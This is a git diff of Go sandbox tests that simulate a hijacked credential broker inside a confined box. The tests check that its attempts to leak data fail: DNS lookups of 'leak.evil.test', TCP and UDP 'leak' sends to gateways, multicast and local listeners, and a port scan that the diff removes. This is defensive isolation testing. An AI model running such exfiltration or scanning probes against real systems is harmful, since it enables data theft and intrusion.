@@ -1,7 +1,10 @@
 package attack
 
 import (
+	"fmt"
 	"net/netip"
+	"os"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -9,6 +12,7 @@ import (
 	"golang.org/x/sys/unix"
 
 	"github.com/agent-init/agent-init/internal/lab"
+	"github.com/agent-init/agent-init/internal/lab/fakellm"
 )
 
 // turned runs an operation as the broker would, if it were taken over: with its user and its group.
@@ -20,6 +24,50 @@ func (b *brokered) turned(who inmate, args ...string) lab.Poke {
 		b.Fatalf("poke %v: %v: %s", args, err, r)
 	}
 	return p
+}
+
+// walled confines a box with a route, of which nobody has asked anything. The host is leased to the broker by itself.
+func walled(t *testing.T) *brokered {
+	t.Helper()
+	lab.Require(t)
+	l := lab.New(t, lab.Options{})
+	b := &brokered{model: &fakellm.Model{Key: brokerKey}}
+	l.DNS.SetAddrs("api.anthropic.com", routeAddrs...)
+	l.Web.Handle("api.anthropic.com", b.model)
+	b.world = confineIn(t, l, "ok.test\n", lab.BoxOptions{Files: []lab.File{
+		{Path: "/etc/agent-init/policy.yaml", Data: []byte("broker: {anthropic: {credential: file:/run/secrets/anthropic}}\n")},
+		{Path: "/run/secrets/anthropic", Data: []byte(brokerKey + "\n"), Mode: 0o400},
+		{Path: bundle, Data: l.CA.PEM},
+	}})
+	if !eventually(20*time.Second, func() bool {
+		data, err := b.box.ReadFile("/run/agent-init/leases.json")
+		return err == nil && strings.Contains(string(data), "api.anthropic.com")
+	}) {
+		t.Fatal("the route's host is not resolved ahead")
+	}
+	return b
+}
+
+type listener struct{ network, addr string }
+
+// listeners are the sockets in the namespace of a process that wait for somebody, as proc_pid_net(5) tells of them.
+func listeners(t *testing.T, in inmate) (out []listener) {
+	t.Helper()
+	for file, loopback := range map[string]string{"tcp": "127.0.0.1", "tcp6": "::1", "udp": "127.0.0.1", "udp6": "::1"} {
+		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/net/%s", in.host, file))
+		must(t, err)
+		for line := range strings.Lines(string(data)) {
+			f := strings.Fields(line)
+			if len(f) < 4 || f[3] != "0A" && f[3] != "07" { // TCP_LISTEN; TCP_CLOSE, of datagrams
+				continue
+			}
+			_, port, _ := strings.Cut(f[1], ":")
+			n, err := strconv.ParseUint(port, 16, 16)
+			must(t, err)
+			out = append(out, listener{strings.TrimSuffix(file, "6"), target(loopback, uint16(n))})
+		}
+	}
+	return out
 }
 
 var routeAddrs = []string{"45.30.50.1", "2a0f:30::50"}
@@ -37,10 +85,7 @@ func elsewhere(p *lab.Packet) bool {
 // TestLabBrokerTakenOver: hostile code in the broker's place reaches the hosts of its routes, and nothing else. The agent,
 // root and whoever has one of its ids reach nothing of those.
 func TestLabBrokerTakenOver(t *testing.T) {
-	b := broker(t, "", lab.BoxOptions{})
-	if p := b.prompt(b.ask()...); !p.OK {
-		t.Fatalf("the model does not answer: %s", p)
-	}
+	b := walled(t)
 	b.works("http", "-ca", bundle, "https://ok.test/") // leased to the agent
 	who := b.process()
 	if who.uid == 0 || who.uid == lab.AgentUID || who.gid == who.uid {
@@ -72,9 +117,15 @@ func TestLabBrokerTakenOver(t *testing.T) {
 		tries = append(tries, []string{"dns", server, "leak.evil.test", "A"}, []string{"dns", "-tcp", server, "leak.evil.test", "A"})
 	}
 	tries = append(tries, []string{"resolve", "leak.evil.test"}, []string{"resolve", "ok.test"},
-		[]string{"scan", "-timeout", "1s", "-c", "64", "127.0.0.1", "1-65535"}, []string{"scan", "-timeout", "1s", "-c", "64", "::1", "1-65535"},
 		[]string{"udp", "-send", "leak", "-noreply", "224.0.0.251:5353"}, []string{"udp", "-send", "leak", "-noreply", "[ff02::fb]:5353"},
 		[]string{"tcp", "-send", "leak", target(b.box.Gateway4().String(), 443)}, []string{"tcp", "-send", "leak", target(b.box.Neighbor4().String(), 443)})
+	here := listeners(t, who)
+	if len(here) < 5 { // DNS twice, the gate, the broker's own, a family at least
+		t.Errorf("proves nothing: in the box, only %v are listened at", here)
+	}
+	for _, l := range here {
+		tries = append(tries, []string{l.network, "-send", "leak", "-timeout", "300ms", l.addr})
+	}
 	for _, args := range tries {
 		if p := b.turned(who, args...); p.OK {
 			t.Errorf("in the broker's place: %v: %s", args, p)
@@ -103,10 +154,7 @@ func TestLabBrokerTakenOver(t *testing.T) {
 
 // TestLabBrokerRouteEnds: a route that is taken out ends what is under way on it, and opens nothing.
 func TestLabBrokerRouteEnds(t *testing.T) {
-	b := broker(t, "", lab.BoxOptions{})
-	if p := b.prompt(b.ask()...); !p.OK {
-		t.Fatalf("the model does not answer: %s", p)
-	}
+	b := walled(t)
 	who := b.process()
 	held := b.box.ExecStart(lab.Cmd{Args: []string{"/usr/local/bin/poke", "idle", "-n", "1", "-hold", "5s", target(routeAddrs[0], 443)}, UID: who.uid, GID: who.gid})
 	defer held.Wait(0)
@@ -120,9 +168,6 @@ func TestLabBrokerRouteEnds(t *testing.T) {
 			t.Errorf("after the route: %s: %s", a, p)
 		}
 		b.blocked("tcp", "-send", "leak", target(a, 443))
-	}
-	if p := b.prompt(b.ask()...); p.OK {
-		t.Errorf("after the route, the broker answers: %s", p)
 	}
 	time.Sleep(time.Second) // for what is held to try
 	for _, a := range routeAddrs {
